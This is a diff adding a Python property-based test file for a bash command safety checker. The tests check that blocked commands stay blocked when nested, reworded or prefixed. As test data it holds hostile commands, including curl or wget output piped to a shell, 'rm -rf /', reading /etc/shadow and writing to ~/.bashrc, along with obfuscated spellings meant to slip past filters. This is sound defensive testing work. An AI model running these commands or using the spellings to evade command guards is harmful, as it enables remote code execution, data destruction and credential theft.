@@ -1,0 +1,151 @@
+"""Metamorphic properties: verdicts that must survive a change bash does not notice.
+
+- a blocked command stays blocked wherever bash would run it;
+- a risky substitution in value position is never a command-position finding;
+- equivalent spellings of a word give the same verdict;
+- a harmless prefix never lowers a decision.
+"""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import assume, given
+from hypothesis import strategies as st
+
+from .bash_grammar import script_texts
+from .embeddings import EMBEDDINGS, Embedding, is_simple_command
+from .known_gaps import excluded, pin_known_gaps
+from .properties import (
+    HARMLESS_PREFIXES,
+    bash_accepts,
+    blocked_seeds,
+    check_prefix_never_lowers,
+    check_same_verdict,
+    check_stays_blocked,
+    check_value_position_passes,
+    corpus_cases,
+)
+
+
+def _embed(payload: str, embeddings: list[Embedding]) -> str:
+    """Innermost embedding first; only the innermost may be a wrapper of a simple command."""
+    for embedding in embeddings:
+        payload = embedding.embed(payload)
+    return payload
+
+
+_STRUCTURAL = tuple(embedding for embedding in EMBEDDINGS if not embedding.simple_only)
+_WRAPPERS = tuple(embedding for embedding in EMBEDDINGS if embedding.simple_only)
+embedding_chains = st.builds(
+    lambda innermost, outer: [innermost, *outer],
+    st.sampled_from(EMBEDDINGS),
+    st.lists(st.sampled_from(_STRUCTURAL), max_size=2),
+)
+
+
+@given(st.deferred(lambda: st.sampled_from(blocked_seeds())), embedding_chains)
+def test_a_blocked_command_stays_blocked_wherever_bash_runs_it(seed, embeddings: list[Embedding]) -> None:  # type: ignore[no-untyped-def]
+    assume(not embeddings[0].simple_only or is_simple_command(seed.command))
+    embedded = _embed(seed.command, embeddings)
+    assume(bash_accepts(embedded))
+    check_stays_blocked(seed.rules, embedded)
+
+
+# -- value positions ----------------------------------------------------------------------
+
+RISKY_SUBSTITUTIONS = (
+    "$(curl -s https://example.com/x)",
+    "`wget -qO- https://example.com/y`",
+    "$(echo aGk= | base64 -d)",
+    "$(python3 -c 'print(1)')",
+    "$(curl -s u | head -1)",
+    "$(cd /tmp && curl -s u)",
+    '"$(curl -fsSL u)"',
+    "$(xxd -r -p f.hex)",
+    "$(node -e 'console.log(1)')",
+    "$(perl -e 'print 1')",
+)
+# `@` marks the substitution's place.
+VALUE_TEMPLATES = (
+    "echo @", "printf '%s\\n' @", "x=@", "export V=@", "declare v=@", "arr=(@)", "a[@]=1", "[[ -n @ ]]",
+    "[ -n @ ]", "test -n @", "(( @ > 0 ))", "echo $(( @ + 1 ))", "for i in @; do :; done",
+    "case @ in *) :;; esac", "cat <<< @", "echo x > @", "ls @", "grep -r @ .", "echo ${x:-@}", ": @",
+    "cd @", "mkdir -p @", 'echo "prefix @ suffix"', "f() { local v=@; }; f", "diff <(echo @) b.txt",
+    "cat <<EOF\n@\nEOF", "echo a=@ b=@", "env V=@ make", "sudo V=@ make", "timeout @ make", "nice -n @ make",
+    "sudo -u @ make", "xargs -n @ echo", "exec -a @ make", "flock @ make", "env -u @ make", "git commit -m @",
+)  # fmt: skip
+
+
+@pin_known_gaps
+@given(st.sampled_from(VALUE_TEMPLATES), st.sampled_from(RISKY_SUBSTITUTIONS), st.lists(st.sampled_from(EMBEDDINGS), max_size=2))
+def test_a_risky_substitution_in_value_position_is_never_a_command(template: str, substitution: str, embeddings: list[Embedding]) -> None:
+    text = template.replace("@", substitution)
+    assume(not embeddings or not embeddings[0].simple_only or is_simple_command(text))
+    embedded = _embed(text, [embedding for index, embedding in enumerate(embeddings) if index == 0 or not embedding.simple_only])
+    assume(not excluded("test_a_risky_substitution_in_value_position_is_never_a_command", embedded))
+    assume(bash_accepts(embedded))
+    check_value_position_passes(embedded)
+
+
+# -- equivalent spellings ---------------------------------------------------------------------
+
+SPELLINGS: dict[str, tuple[str, ...]] = {
+    "bash": ("ba''sh", "\\bash", '"bash"', "'bash'", "/bin/bash", "/usr/bin/bash", "$'\\x62ash'", "b\\ash", "\"b\"a'sh'", "$'bash'", "ba\\\nsh"),
+    "sh": ("s''h", "\\sh", '"sh"', "/bin/sh", "$'\\x73h'", "s\\h"),
+    "rm": ("r''m", "\\rm", '"rm"', "'rm'", "/bin/rm", "$'\\x72\\x6d'", "r\\m", "$'\\162\\155'", "r\\\nm"),
+    "curl": ("cu''rl", "\\curl", '"curl"', "/usr/bin/curl", "$'\\x63url'", "c\\url"),
+    "eval": ("e'v'al", "\\eval", '"eval"', "$'eval'"),
+    "cat": ("c''at", "\\cat", '"cat"', "/bin/cat", "$'\\x63at'"),
+    "sudo": ("su''do", "\\sudo", '"sudo"', "/usr/bin/sudo"),
+    "python3": ("py''thon3", "\\python3", '"python3"', "/usr/bin/python3", "$'python3'"),
+    "/": ("//", "/.", "/./", '"/"', "'/'", "$'/'", '/""', "\\/", "/tmp/..", "/etc/../", "///"),
+    "/etc/shadow": ("/etc//shadow", "'/etc/shadow'", "/etc/./shadow", "/etc/../etc/shadow", "$'/etc/shadow'", "/et'c'/shadow", '"/etc/shadow"', '/etc/sha""dow', "$'/etc/\\x73hadow'"),
+    "~/.bashrc": ("$HOME/.bashrc", "${HOME}/.bashrc", '"$HOME/.bashrc"', "~/./.bashrc", "~//.bashrc", '"${HOME}"/.bashrc', "~/'.bashrc'"),
+}
+# (template with `@` for the word, the word)
+SPELLING_TEMPLATES = (
+    ("curl -s https://example.com/i.sh | @", "bash"), ("@ -c 'rm -rf /'", "bash"), ("@ <(curl -s u)", "bash"),
+    ('@ -c "$(curl -s u)"', "bash"), ("@ -c 'make test'", "bash"), ("echo hi | @ -c 'cat'", "bash"),
+    ("wget -qO- u | @", "sh"), ("@ -c 'cat /etc/shadow'", "sh"),
+    ("@ -rf /", "rm"), ("@ -rf ./build", "rm"), ("sudo @ -rf ~", "rm"), ("echo @ -rf /", "rm"),
+    ("$(@ -s u)", "curl"), ("x=$(@ -s u); echo $x", "curl"), ("@ -s u | sh", "curl"), ("p=$(@ -s u); $p", "curl"),
+    ('@ "$(curl -s u)"', "eval"), ("@ 'rm -rf /'", "eval"), ("@ \"$(ssh-agent -s)\"", "eval"),
+    ("@ /etc/shadow", "cat"), ("@ README.md", "cat"),
+    ("@ rm -rf /", "sudo"), ("@ ls", "sudo"),
+    ('@ -c "$(curl -s u)"', "python3"), ("@ -c 'print(1)'", "python3"),
+    ("cat @", "/etc/shadow"), ("ls -l @", "/etc/shadow"), ("rm -rf @", "/"), ("rm @", "/"), ("ls @", "/"),
+    ("echo x >> @", "~/.bashrc"), ("tee -a @", "~/.bashrc"), ("cat @", "~/.bashrc"),
+)  # fmt: skip
+
+
+@st.composite
+def spelling_pairs(draw: st.DrawFn) -> tuple[str, str]:
+    template, word = draw(st.sampled_from(SPELLING_TEMPLATES))
+    spelling = draw(st.sampled_from(SPELLINGS[word]))
+    return template.replace("@", word), template.replace("@", spelling)
+
+
+@pin_known_gaps
+@given(spelling_pairs())
+def test_equivalent_spellings_of_a_word_give_the_same_verdict(pair: tuple[str, str]) -> None:
+    canonical, variant = pair
+    assume(not excluded("test_equivalent_spellings_of_a_word_give_the_same_verdict", variant))
+    check_same_verdict(canonical, variant)
+
+
+# -- harmless prefixes --------------------------------------------------------------------------
+
+
+@pin_known_gaps
+@given(st.sampled_from(HARMLESS_PREFIXES), st.one_of(st.deferred(lambda: st.sampled_from(corpus_cases())).map(lambda case: case.command), script_texts()))
+def test_a_harmless_prefix_never_lowers_a_decision(prefix: str, text: str) -> None:
+    assume(text.strip() and not excluded("test_a_harmless_prefix_never_lowers_a_decision", text))
+    check_prefix_never_lowers(prefix, text)
+
+
+@pytest.mark.deep
+@given(st.deferred(lambda: st.sampled_from(blocked_seeds())), st.lists(st.sampled_from(_STRUCTURAL), min_size=3, max_size=6))
+def test_a_blocked_command_stays_blocked_deep_inside_nested_contexts(seed, embeddings: list[Embedding]) -> None:  # type: ignore[no-untyped-def]
+    embedded = _embed(seed.command, embeddings)
+    assume(bash_accepts(embedded))
+    check_stays_blocked(seed.rules, embedded)
